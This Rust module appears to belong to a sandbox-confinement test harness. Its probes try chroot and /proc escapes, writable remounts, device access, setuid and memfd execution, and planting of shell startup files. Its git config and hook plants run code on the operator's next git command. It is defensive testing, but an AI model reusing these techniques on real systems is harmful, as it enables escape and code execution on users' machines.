//! Acts on files.

use super::{
    Acts, Done, Refused, any, but_token, call, in_child, number, own_mount_namespace, path_bytes, refused, token, word,
};
use crate::attack::site::SHARED;
use crate::attack::sys::{self, Arg};
use nix::errno::Errno;
use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sched::{CloneFlags, unshare};
use std::ffi::OsStr;
use std::fs::{self, File, OpenOptions};
use std::io::{Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _, symlink};
use std::path::Path;
use std::process::{Command, Stdio};

pub(super) const ACTS: Acts = &[
    ("read", read),
    ("open-read", |words| any(but_token(words), |path| open(path, false))),
    ("open-write", |words| any(but_token(words), |path| open(path, true))),
    ("create", create),
    ("plant-system", plant_system),
    ("remount", |words| any(but_token(words), |place| remount(place))),
    ("meddle", meddle),
    ("truncate", |words| {
        Ok(format!("{}", call_path(libc::SYS_truncate, word(words, 0)?, 0)?))
    }),
    ("rename-onto", rename_onto),
    ("rename-within", rename_within),
    ("link-in", link_in),
    ("symlink-out", symlink_out),
    ("dotdot", dotdot),
    ("proc-root", proc_root),
    ("list", |words| {
        let count = fs::read_dir(word(words, 0)?)?.count();
        if count == 0 {
            refused(Errno::ENOENT, "empty")
        } else {
            Ok(format!("list {count} entries"))
        }
    }),
    ("devices", devices),
    ("mknod", mknod),
    ("overwrite-shared", |_| {
        OpenOptions::new()
            .write(true)
            .truncate(true)
            .open("shared")?
            .write_all(b"overwritten")?;
        Ok("overwrite what has a second name".to_owned())
    }),
    ("memfd-exec", memfd_exec),
    ("tmp-exec", tmp_exec),
    ("setuid-create", setuid_create),
    ("xattr", xattr),
    ("handle", handle),
    ("mount", mount_inside),
    ("share-write", share_write),
    ("share-read", |words| {
        any(["/dev/shm", "/tmp"], |place| {
            read_one(&format!("{place}/{}", token(words)))
        })
    }),
    ("fifo", fifo),
    ("sparse", |_| {
        File::create("sparse")?.set_len(10 << 40)?;
        Ok("make a file of 10 TiB".to_owned())
    }),
    ("deep", deep),
    ("names", names),
    ("immutable", immutable),
    ("forbid-tree", forbid_tree),
    ("git-plant", git_plant),
    ("touch", |words| {
        // Without times: the present, which whoever may write to a file may set.
        let path = path_bytes(word(words, 0)?)?;
        let here = Arg::Int(i64::from(libc::AT_FDCWD));
        sys::syscall(
            libc::SYS_utimensat,
            &mut [here, Arg::Read(&path), Arg::Null, Arg::Int(0)],
        )?;
        Ok("change the times of the host's device".to_owned())
    }),
    ("lock", lock),
    ("observe", observe),
    ("late-paths", |words| {
        let home = word(words, 0)?.to_owned();
        any([".ssh/rc", ".config/autostart", ".profile", ".envrc"], |name| {
            let path = Path::new(&home).join(name);
            fs::write(&path, token(words))?;
            Ok(format!("plant {name}"))
        })
    }),
];

/// The content of every file that can be read.
fn read(words: &[String]) -> Done {
    any(but_token(words), |path| read_one(path))
}

fn read_one(path: &str) -> Done {
    let mut bytes = Vec::new();
    // Bounded, and without waiting for a pipe that nobody writes to.
    let file = OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY)
        .open(path)?;
    file.take(1024).read_to_end(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// Opens and does no more: what is opened may be the operator's own.
fn open(path: &String, write: bool) -> Done {
    let flags = libc::O_NONBLOCK | libc::O_NOCTTY;
    OpenOptions::new()
        .read(!write)
        .write(write)
        .custom_flags(flags)
        .open(path)?;
    Ok(format!("open {path}"))
}

fn create(words: &[String]) -> Done {
    any(but_token(words), |path| {
        OpenOptions::new()
            .write(true)
            .create(true)
            .truncate(true)
            .open(path)?
            .write_all(b"planted\n")?;
        Ok(format!("write {path}"))
    })
}

/// Makes a file in a directory of the system and removes it at once.
fn plant_system(words: &[String]) -> Done {
    any(but_token(words), |directory| {
        let path = Path::new(directory).join(token(words));
        File::create_new(&path)?;
        fs::remove_file(&path)?;
        Ok(format!("write to {directory}"))
    })
}

fn remount(place: &str) -> Done {
    own_mount_namespace();
    let none: Option<&str> = None;
    let remounted = mount(none, place, none, MsFlags::MS_REMOUNT | MsFlags::MS_BIND, none);
    if remounted.is_ok() {
        return Ok(format!("remount {place} writable"));
    }
    // `struct mount_attr` that clears MOUNT_ATTR_RDONLY. Source: mount_setattr(2).
    let mut attributes = [0_u8; 32];
    attributes[8] = 1;
    let path = path_bytes(place)?;
    sys::syscall(
        libc::SYS_mount_setattr,
        &mut [
            Arg::Int(i64::from(libc::AT_FDCWD)),
            Arg::Read(&path),
            Arg::Int(0),
            Arg::Bytes(&mut attributes),
            Arg::Int(32),
        ],
    )?;
    Ok(format!("make {place} writable"))
}

/// Mode, owner, times and attributes of a file that may well be unwritable.
fn meddle(words: &[String]) -> Done {
    let path = word(words, 0)?;
    any(["mode", "time", "attribute", "owner"], |what| {
        match what {
            "mode" => fs::set_permissions(path, fs::Permissions::from_mode(0o4777))?,
            "time" => File::open(path)?.set_modified(std::time::UNIX_EPOCH)?,
            "attribute" => rustix::fs::setxattr(path, "user.planted", b"x", rustix::fs::XattrFlags::empty())?,
            _ => std::os::unix::fs::chown(path, Some(12_345), None)?,
        }
        Ok(format!("change its {what}"))
    })
}

fn call_path(number: i64, path: &str, argument: i64) -> Result<i64, Errno> {
    let path = path_bytes(path).map_err(|refused| refused.errno)?;
    sys::syscall(number, &mut [Arg::Read(&path), Arg::Int(argument)])
}

fn rename_onto(words: &[String]) -> Done {
    any(but_token(words), |target| {
        fs::write("mine", "planted\n")?;
        fs::rename("mine", target)
            .or_else(|_| {
                fs::remove_file(target)?;
                fs::hard_link("mine", target)
            })
            .or_else(|_| symlink("mine", target))?;
        Ok(format!("replace {target}"))
    })
}

/// What cargo and npm do: files and directories change their directory, by rename and by link.
fn rename_within(_: &[String]) -> Done {
    for directory in ["within", "within/a", "within/b"] {
        fs::create_dir(directory)?;
    }
    fs::write("within/a/file", "content")?;
    fs::rename("within/a/file", "within/b/file")?;
    fs::hard_link("within/b/file", "within/a/link")?;
    fs::rename("within/a", "within/b/a")?;
    fs::remove_dir_all("within")?;
    Ok("rename and link between directories".to_owned())
}

fn link_in(words: &[String]) -> Done {
    any(but_token(words), |path| {
        fs::hard_link(path, "linked")?;
        let mut file = OpenOptions::new().append(true).open("linked")?;
        file.write_all(b"planted\n")?;
        Ok(format!("write through a link to {path}"))
    })
}

fn symlink_out(words: &[String]) -> Done {
    let target = word(words, 0)?;
    symlink(target, "out")?;
    OpenOptions::new().append(true).open("out")?.write_all(b"planted\n")?;
    Ok(format!("write through a symbolic link to {target}"))
}

/// Out of the root by names: up from the top, up from here, and out of a root of one's own.
fn dotdot(words: &[String]) -> Done {
    let target = word(words, 0)?.to_owned();
    let up = "../".repeat(40);
    any(["top", "here", "chroot"], |way| match way {
        "top" => read_one(&format!("/{up}{}", target.trim_start_matches('/'))),
        "here" => read_one(&format!("{up}{}", target.trim_start_matches('/'))),
        _ => {
            fs::create_dir("jail").or_else(|error| if Path::new("jail").exists() { Ok(()) } else { Err(error) })?;
            let _ = unshare(CloneFlags::CLONE_FS);
            nix::unistd::chroot("jail")?;
            nix::unistd::chdir("../../../../../../..")?;
            nix::unistd::chroot(".")?;
            read_one(&target)
        }
    })
}

/// Into the root and the working directory of every process that there is.
fn proc_root(words: &[String]) -> Done {
    let target = word(words, 0)?.to_owned();
    let own = std::process::id();
    let processes: Vec<u32> = fs::read_dir("/proc")?
        .flatten()
        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
        .filter(|pid| *pid != own)
        .chain([1])
        .take(500)
        .collect();
    let deeper = |pid: &u32| {
        any(
            [
                format!("/proc/{pid}/root{target}"),
                format!("/proc/{pid}/cwd/{}{target}", "../".repeat(20)),
            ],
            |path| read_one(&path),
        )
    };
    any(
        [
            read_one(&format!("/proc/self/root/../..{target}")),
            any(&processes, deeper),
        ],
        |done| done,
    )
}

/// Devices that lead to the kernel, the hardware or other programs. A terminal multiplexer counts when it is the host's.
fn devices(words: &[String]) -> Done {
    let host_pts = number(words, 0)? as u64;
    let nodes = [
        "kvm",
        "fuse",
        "mem",
        "kmsg",
        "port",
        "dri/card0",
        "dri/renderD128",
        "nvidia0",
        "nvidiactl",
        "vhost-net",
        "vhost-vsock",
        "vsock",
        "loop-control",
        "loop0",
        "vda",
        "sda",
        "nvme0n1",
        "userfaultfd",
        "net/tun",
        "uinput",
        "input/event0",
        "snd/timer",
        "rtc0",
        "tty0",
        "tty1",
        "console",
        "ttyS0",
        "vcs",
        "cpu_dma_latency",
        "autofs",
        "btrfs-control",
        "hwrng",
        "vga_arbiter",
    ];
    let mut found: Vec<Done> = nodes
        .iter()
        .map(|name| open(&format!("/dev/{name}"), false).map(|_| (*name).to_owned()))
        .collect();
    found.push(match fs::metadata("/dev/pts") {
        Ok(metadata) if metadata.dev() == host_pts && host_pts != 0 => {
            open(&"/dev/ptmx".to_owned(), true).map(|_| "the host's ptmx".to_owned())
        }
        _ => refused(Errno::ENOENT, "no terminal multiplexer of the host"),
    });
    any(found, |done| done)
}

fn mknod(_: &[String]) -> Done {
    let name = path_bytes("node")?;
    let null = 0x103;
    sys::syscall(
        libc::SYS_mknodat,
        &mut [
            Arg::Int(i64::from(libc::AT_FDCWD)),
            Arg::Read(&name),
            Arg::Int(i64::from(libc::S_IFCHR | 0o666)),
            Arg::Int(null),
        ],
    )?;
    let opened = open(&"node".to_owned(), true);
    fs::remove_file("node")?;
    opened.map(|_| "make a device and open it".to_owned())
}

/// A program that does nothing and is on every system.
fn small_program() -> Result<Vec<u8>, Refused> {
    let found = ["/usr/bin/true", "/bin/true"]
        .iter()
        .find_map(|path| fs::read(path).ok());
    found.ok_or(Refused::from(Errno::ENOENT))
}

fn memfd_exec(_: &[String]) -> Done {
    let name = path_bytes("attack")?;
    let fd = sys::syscall(libc::SYS_memfd_create, &mut [Arg::Read(&name), Arg::Int(0)])?;
    let path = format!("/proc/self/fd/{fd}");
    fs::write(&path, small_program()?)?;
    let status = Command::new(&path).stdin(Stdio::null()).status()?;
    if status.success() {
        Ok("execute a file that has no name".to_owned())
    } else {
        refused(Errno::ENOEXEC, "it did not run")
    }
}

fn tmp_exec(words: &[String]) -> Done {
    let path = Path::new("/tmp").join(token(words));
    fs::write(&path, small_program()?)?;
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755))?;
    let status = Command::new(&path).status()?;
    if status.success() {
        Ok("execute a program in /tmp".to_owned())
    } else {
        refused(Errno::ENOEXEC, "it did not run")
    }
}

fn setuid_create(_: &[String]) -> Done {
    fs::write("setuid", small_program()?)?;
    fs::set_permissions("setuid", fs::Permissions::from_mode(0o6755))?;
    if fs::metadata("setuid")?.mode() & 0o4000 == 0 {
        return refused(Errno::EPERM, "the bit did not stay");
    }
    Ok("make a set-user-id program".to_owned())
}

fn xattr(_: &[String]) -> Done {
    any(["user.planted", "security.planted", "trusted.planted"], |name| {
        rustix::fs::setxattr("file", name, b"x", rustix::fs::XattrFlags::empty())?;
        Ok(format!("set {name}"))
    })
}

/// A file by its handle, past every directory on the way.
fn handle(words: &[String]) -> Done {
    let path = path_bytes(word(words, 0)?)?;
    // `struct file_handle` with room for 128 bytes. Source: open_by_handle_at(2).
    let mut handle = [0_u8; 8 + 128];
    handle[0] = 128;
    let mut mount_id = [0_u8; 8];
    sys::syscall(
        libc::SYS_name_to_handle_at,
        &mut [
            Arg::Int(i64::from(libc::AT_FDCWD)),
            Arg::Read(&path),
            Arg::Bytes(&mut handle),
            Arg::Bytes(&mut mount_id),
            Arg::Int(0),
        ],
    )?;
    let directory = File::open(word(words, 0)?)?;
    sys::syscall(
        libc::SYS_open_by_handle_at,
        &mut [
            Arg::Int(i64::from(directory.as_raw_fd())),
            Arg::Bytes(&mut handle),
            Arg::Int(i64::from(libc::O_PATH)),
        ],
    )?;
    Ok("open a file by its handle".to_owned())
}

/// A file system of one's own, in a user namespace of one's own where that helps.
fn mount_inside(_: &[String]) -> Done {
    let none: Option<&str> = None;
    fs::create_dir("mounted")?;
    let attempt = |kind: &str| {
        in_child(|| {
            own_mount_namespace();
            let own_user = || unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS);
            mount(Some(kind), "mounted", Some(kind), MsFlags::empty(), none).or_else(|_| {
                own_user()?;
                mount(Some(kind), "mounted", Some(kind), MsFlags::empty(), none)
            })?;
            umount2("mounted", MntFlags::MNT_DETACH)
        })
    };
    any(["tmpfs", "ramfs"], |kind| {
        attempt(kind)?;
        Ok(format!("mount a {kind}"))
    })
}

fn share_write(words: &[String]) -> Done {
    use std::io::stdout;
    let text = format!("{}\n", word(words, 0)?);
    let places = SHARED.map(|place| Path::new(place).join(token(words)));
    let done = any(&places, |place| {
        fs::write(place, &text)?;
        Ok(format!("write {}", place.display()))
    });
    println!("did hold");
    stdout().flush()?;
    super::nap(2500);
    for place in &places {
        let _ = fs::remove_file(place);
    }
    done
}

fn fifo(_: &[String]) -> Done {
    nix::unistd::mkfifo("fifo", nix::sys::stat::Mode::from_bits_truncate(0o666))?;
    std::os::unix::net::UnixListener::bind("socket")?;
    Ok("leave a pipe and a socket".to_owned())
}

/// Directories below each other, deeper than a path may be long.
fn deep(_: &[String]) -> Done {
    let name = "d".repeat(200);
    for _ in 0..100 {
        fs::create_dir(&name)?;
        nix::unistd::chdir(name.as_str())?;
    }
    Ok("leave 100 directories in each other".to_owned())
}

fn names(_: &[String]) -> Done {
    any([&b"new\nline"[..], b"\x1b[2Jescape", b"\xff\xfe", b"-rf"], |name| {
        fs::write(Path::new(OsStr::from_bytes(name)), "")?;
        Ok("leave a hostile name".to_owned())
    })
}

/// A flag that not even root's removal gets past; taken away again at once.
fn immutable(_: &[String]) -> Done {
    let file = File::open("file")?;
    let set = |flags: u8| {
        let mut bytes = [flags, 0, 0, 0, 0, 0, 0, 0];
        let mut words = [
            Arg::Int(i64::from(file.as_raw_fd())),
            // FS_IOC_SETFLAGS. Source: ioctl_iflags(2).
            Arg::Int(0x4008_6602),
            Arg::Bytes(&mut bytes),
        ];
        sys::syscall(libc::SYS_ioctl, &mut words)
    };
    set(0x10)?;
    set(0)?;
    Ok("make a file immutable".to_owned())
}

fn forbid_tree(_: &[String]) -> Done {
    for path in ["sub/other", "sub", "file"] {
        fs::set_permissions(path, fs::Permissions::from_mode(0o000))?;
    }
    Ok("take every permission away".to_owned())
}

/// Plants in a repository what has the operator's next git command run a program of the payload's.
fn git_plant(words: &[String]) -> Done {
    let (kind, ran) = (word(words, 0)?, word(words, 1)?);
    fs::write("run.sh", format!("#!/bin/sh\n: >'{ran}'\ncat\n"))?;
    fs::set_permissions("run.sh", fs::Permissions::from_mode(0o755))?;
    let here = std::env::current_dir()?;
    let program = here.join("run.sh").display().to_string();
    let config = |text: &str| -> std::io::Result<()> {
        fs::create_dir_all(".git")?;
        OpenOptions::new()
            .append(true)
            .create(true)
            .open(".git/config")?
            .write_all(text.as_bytes())
    };
    let bare = |place: &str, text: &str| -> std::io::Result<()> {
        for directory in ["objects", "refs"] {
            fs::create_dir_all(Path::new(place).join(directory))?;
        }
        fs::write(Path::new(place).join("HEAD"), "ref: refs/heads/work\n")?;
        fs::write(
            Path::new(place).join("config"),
            format!(
                "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = {}\n{text}",
                here.display()
            ),
        )
    };
    let monitor = format!("[core]\n\tfsmonitor = {program}\n");
    match kind {
        "gitfile" => {
            bare("attacker", &monitor)?;
            fs::rename(".git", "git-was-here")?;
            fs::write(".git", format!("gitdir: {}\n", here.join("attacker").display()))?;
        }
        "hooks" => {
            fs::create_dir_all(".git/hooks")?;
            for hook in [
                "pre-commit",
                "post-commit",
                "post-checkout",
                "post-index-change",
                "reference-transaction",
            ] {
                fs::copy("run.sh", Path::new(".git/hooks").join(hook))?;
            }
        }
        "fsmonitor" => config(&monitor)?,
        "pager" => config(&format!(
            "[core]\n\tpager = {program}\n\teditor = {program}\n\tsshCommand = {program}\n\thooksPath = {}\n[alias]\n\tst = !{program}\n[diff]\n\texternal = {program}\n",
            here.display()
        ))?,
        "worktree-config" => {
            config("[extensions]\n\tworktreeConfig = true\n")?;
            fs::write(".git/config.worktree", monitor)?;
        }
        "info-attributes" => {
            fs::create_dir_all(".git/info")?;
            fs::write(".git/info/attributes", "* filter=planted\n")?;
            config(&format!("[filter \"planted\"]\n\tclean = {program}\n"))?;
        }
        // The operator's own settings name a driver by a path relative to the tree.
        "attributes" => fs::write(".gitattributes", "* filter=relative\n")?,
        "embedded" => bare("sub", &monitor)?,
        "nested" => {
            fs::create_dir("nested")?;
            bare("nested/.git", &monitor)?;
        }
        "alternates" => {
            fs::create_dir_all(".git/objects/info")?;
            fs::write(
                ".git/objects/info/alternates",
                format!("{}\n", here.join("attacker/objects").display()),
            )?;
        }
        "replace" => {
            fs::create_dir_all(".git/refs/replace")?;
            fs::create_dir_all(".git/info")?;
            fs::write(".git/info/grafts", "")?;
            let head = fs::read_to_string(".git/refs/heads/work")?;
            fs::write(Path::new(".git/refs/replace").join(head.trim()), head)?;
        }
        "index" => {
            fs::write("file", "hidden edit\n")?;
            fs::write(".git/index", "")?;
        }
        _ => return refused(Errno::EINVAL, kind),
    }
    Ok(format!("plant {kind}"))
}

/// Locks a file that can only be read: whoever of the host wants the lock has to wait.
/// Takes a lock and keeps it for as long as the host takes to notice.
fn lock(words: &[String]) -> Done {
    let file = File::open(word(words, 0)?)?;
    let taken = any(["flock", "lease"], |way| {
        match way {
            // LOCK_EX | LOCK_NB.
            "flock" => call(libc::SYS_flock, &[i64::from(file.as_raw_fd()), 6])?,
            _ => call(
                libc::SYS_fcntl,
                &[
                    i64::from(file.as_raw_fd()),
                    i64::from(libc::F_SETLEASE),
                    i64::from(libc::F_RDLCK),
                ],
            )?,
        };
        Ok(format!("hold a {way}"))
    });
    super::nap(600);
    taken
}

/// Watches a file that can only be read, and waits for somebody of the host to open it.
fn observe(words: &[String]) -> Done {
    use nix::poll::{PollFd, PollFlags, poll};
    use nix::sys::inotify::{AddWatchFlags, InitFlags, Inotify};
    use std::os::fd::AsFd as _;
    let inotify = Inotify::init(InitFlags::IN_CLOEXEC)?;
    inotify.add_watch(word(words, 0)?, AddWatchFlags::IN_OPEN)?;
    let mut polled = [PollFd::new(inotify.as_fd(), PollFlags::POLLIN)];
    match poll(&mut polled, 1500_u16)? {
        0 => refused(Errno::EAGAIN, "nothing was seen"),
        _ => Ok("see the host open a file".to_owned()),
    }
}
